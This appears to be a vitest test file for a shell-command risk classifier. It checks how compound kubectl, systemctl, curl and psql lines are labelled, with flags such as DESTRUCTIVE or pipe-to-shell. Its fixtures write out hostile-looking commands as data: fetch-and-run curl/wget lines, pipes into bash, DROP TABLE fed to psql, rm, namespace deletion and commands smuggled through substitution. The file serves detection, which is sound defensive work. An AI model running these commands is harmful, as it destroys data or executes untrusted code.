import { describe } from 'vitest';
import { itReads } from './meaning.js';

describe('several commands in a line', () => {
  itReads(
    'the first that changes something speaks for the line',
    `
kubectl get pods; kubectl delete ns shop
  => kubectl | delete | namespace | shop | - | = | delete namespace DESTRUCTIVE ~ destroys-data: A namespace takes data or others along.
kubectl get pods && kubectl get svc
  => kubectl | get | pod | - | - | - | read none reversible
kubectl get ns shop || kubectl create ns shop
  => kubectl | create | namespace | shop | - | = | create namespace reversible
systemctl stop web && systemctl start web
  => systemctl | stop | unit | web | - | = | restart instance
systemctl stop web && systemctl start db
  => systemctl | stop | unit | web | - | = | stop instance reversible
systemctl stop web; docker start web
  => systemctl | stop | unit | web | - | = | stop instance reversible
systemctl start web; systemctl stop web
  => systemctl | start | unit | web | - | = | start instance reversible
systemctl stop; systemctl start
  => systemctl | stop | unit | - | - | - | stop instance reversible
kubectl config use-context prod; kubectl get pods
  => kubectl | config use-context | context | prod | - | = | configure none reversible ~ other-context: Speaks to a cluster or as a user of its own choice.
kubectl config use x <(kubectl apply -f a)
  => kubectl | config use | context | x | - | = | configure none reversible ~ other-context: Speaks to a cluster or as a user of its own choice. ~ substitution: A part of it is what another command says.
kubectl config use x $(kubectl apply -f a)
  => kubectl | config use | context | x | - | = | configure none reversible ~ other-context: Speaks to a cluster or as a user of its own choice. ~ substitution: A part of it is what another command says.
diff <(kubectl get pods) x; docker ps
  => docker | ps | container | - | - | - | read none reversible ~ substitution: A part of it is what another command says.
kubectl get pods $(kubectl delete ns shop)
  => kubectl | delete | namespace | shop | - | = | delete namespace DESTRUCTIVE ~ substitution: A part of it is what another command says. ~ destroys-data: A namespace takes data or others along.
kubectl get pods -n $(kubectl config current-context)
  => kubectl | get | pod | - | $(kubectl config current-context) | - | read none reversible ~ --namespace=$(kubectl config current-context) ~ substitution: A part of it is what another command says.
docker ps; kubectl config use x
  => kubectl | config use | context | x | - | = | configure none reversible ~ other-context: Speaks to a cluster or as a user of its own choice.
kubectl config use x; ls; service web restart
  => kubectl | config use | context | x | - | = | configure none reversible ~ other-context: Speaks to a cluster or as a user of its own choice.
ls; foo thread; service web xrestart
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: foo.
ls; foo reader; cat a
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: foo.
echo $(kubectl get pods)
  => kubectl | get | pod | - | - | - | read none reversible ~ substitution: A part of it is what another command says.
ls; cat a
  => - | - | - | - | - | - | read none reversible
ls; service web restart
  => - | - | - | web | - | = | restart instance
ls; python a.py
  => - | - | - | - | - | - | execute unknown
true && rm a
  => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys-data: Deletes files.
`,
  );

  itReads(
    'what is created dry and applied',
    `
kubectl create cm x --dry-run=client -o yaml | kubectl apply -f -
  => kubectl | apply | configmap | x | - | = | restore-config rolling reversible ~ --filename=-
kubectl create cm x -n shop --dry-run=client -o yaml | kubectl apply -n prod -f -
  => kubectl | apply | configmap | x | prod | = | restore-config rolling reversible ~ --namespace=prod --filename=-
kubectl create deploy x --image=a --dry-run=client -o yaml | kubectl replace -f -
  => kubectl | replace | deployment | x | - | = | apply rolling reversible ~ --filename=-
kubectl create cm x -o yaml | kubectl apply -f -
  => kubectl | create | configmap | x | - | = | create namespace reversible ~ --output=yaml
kubectl create cm x --dry-run=client -o yaml | kubectl apply -f x.yaml
  => kubectl | apply | - | - | - | - | apply namespace reversible ~ --filename=x.yaml
kubectl create cm x --dry-run=client -o yaml | oc apply -f -
  => oc | apply | - | - | - | - | apply namespace reversible ~ --filename=-
kubectl create cm x --dry-run=client -o yaml | kubectl delete pod -f -
  => kubectl | delete | pod | - | - | - | restart workload ~ --filename=-
`,
  );

  itReads(
    'pipes',
    `
kubectl get pods | grep x | wc -l
  => kubectl | get | pod | - | - | - | read none reversible
time kubectl get pods | grep x
  => kubectl | get | pod | - | - | - | read none reversible
! kubectl get pods | bash
  => kubectl | get | pod | - | - | - | read none DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
! bash | cat
  => - | - | - | - | - | - | execute unknown
time bash | cat
  => - | - | - | - | - | - | execute unknown
! ls | bash
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
time ls | bash
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
`,
  );

  itReads(
    'what is fetched and run',
    `
curl -s https://x.example -o f; bash f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; bash -x f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; bash
  => - | - | - | - | - | - | execute unknown
curl -s https://x.example -o f; bash -c ls
  => - | - | - | - | - | - | execute unknown
curl -s https://x.example -o f; perl -ne print f
  => - | - | - | - | - | - | execute unknown
curl -s https://x.example | python3 -m json.tool
  => - | - | - | - | - | - | execute unknown
curl -s https://x.example -o f; ./f
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched. ~ unknown-tool: Not known here: f.
curl -s https://x.example -o /tmp/f; /tmp/f
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched. ~ unknown-tool: Not known here: f.
curl -s https://x.example -o f; python3 f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; perl f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; ksh f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; . f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; cat f
  => - | - | - | - | - | - | read none reversible
wget https://x.example/f; sh f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
bash f; curl -s https://x.example
  => - | - | - | - | - | - | execute unknown
/usr/bin/curl -s https://x.example -o f; /bin/bash f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
echo curl; bash f
  => - | - | - | - | - | - | execute unknown
xcurl https://x.example -o f; bash f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: xcurl.
curl -s https://x.example -o f; x./f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: f.
curl -s https://x.example -o f; x/tmp/f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: f.
curl -s https://x.example -o f; xbash f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: xbash.
curl -s https://x.example -o f; bashx f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: bashx.
curl -s https://x.example -o f; python f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; zsh f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; x-c f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: x-c.
curl -s https://x.example -o f; bash x-c f
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs what it has just fetched.
curl -s https://x.example -o f; bash -xc f
  => - | - | - | - | - | - | execute unknown ~ unknown-tool: Not known here: f.
/bin/xcurl x; bash f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: xcurl.
`,
  );

  itReads(
    'what is fed to a program',
    String.raw`
echo 'DROP TABLE users;' | psql shop
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ destroys-data: Deletes stored data.
psql shop <<< 'DROP TABLE users;'
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ destroys-data: Deletes stored data.
psql shop <<SQL\nDROP TABLE users;\nSQL
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ destroys-data: Deletes stored data.
cat <<SQL | psql shop\nDROP TABLE users;\nSQL
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ destroys-data: Deletes stored data.
cat a.sql | psql shop
  => - | - | - | - | - | - | execute unknown
{ echo x; cat; } | bash
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
(echo x) | (bash)
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
echo x | if true; then bash; fi
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
echo x | while read a; do bash; done
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
bash | echo x
  => - | - | - | - | - | - | execute unknown
`,
  );

  itReads(
    'lines that are not whole',
    `
kubectl get pods 'x
  => kubectl | get | pod | x | - | = | unknown none ~ syntax: Not a whole shell line: unterminated single quote.
kubectl get pods )
  => kubectl | get | pod | - | - | - | unknown none ~ syntax: Not a whole shell line: unexpected token ')'.
kubectl get pods | | kubectl delete ns shop
  => kubectl | get | pod | - | - | - | unknown none DESTRUCTIVE ~ syntax: Not a whole shell line: expected command after '|'. ~ destroys-data: A namespace takes data or others along.
) rm a
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ syntax: Not a whole shell line: unexpected token ')'. ~ destroys-data: Deletes files. ~ empty: There is no command.
if rm a
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ syntax: Not a whole shell line: expected 'then'. ~ destroys-data: Deletes files.
echo $(rm a
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ syntax: Not a whole shell line: unterminated command substitution. ~ destroys-data: Deletes files. ~ substitution: A part of it is what another command says.
kubectl get 'pods; rm a
  => kubectl | get | pods; rm a | - | - | - | unknown none DESTRUCTIVE ~ syntax: Not a whole shell line: unterminated single quote. ~ destroys-data: Deletes files.
) ls
  => - | - | - | - | - | - | unknown unknown ~ syntax: Not a whole shell line: unexpected token ')'. ~ empty: There is no command.
) echo "unclosed; bash -c x
  => - | - | - | - | - | - | unknown unknown ~ syntax: Not a whole shell line: unexpected token ')'. ~ empty: There is no command.
"unclosed curl | bash
  => - | - | - | - | - | - | unknown unknown ~ syntax: Not a whole shell line: unterminated double quote. ~ unknown-tool: Not known here: unclosed curl | bash.
( $X rm
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ syntax: Not a whole shell line: expected ')' to close subshell. ~ destroys: What $X is told to do takes something away. ~ destroys-data: Deletes files. ~ dynamic-command: Which program $X is, only the shell knows.
`,
  );
});
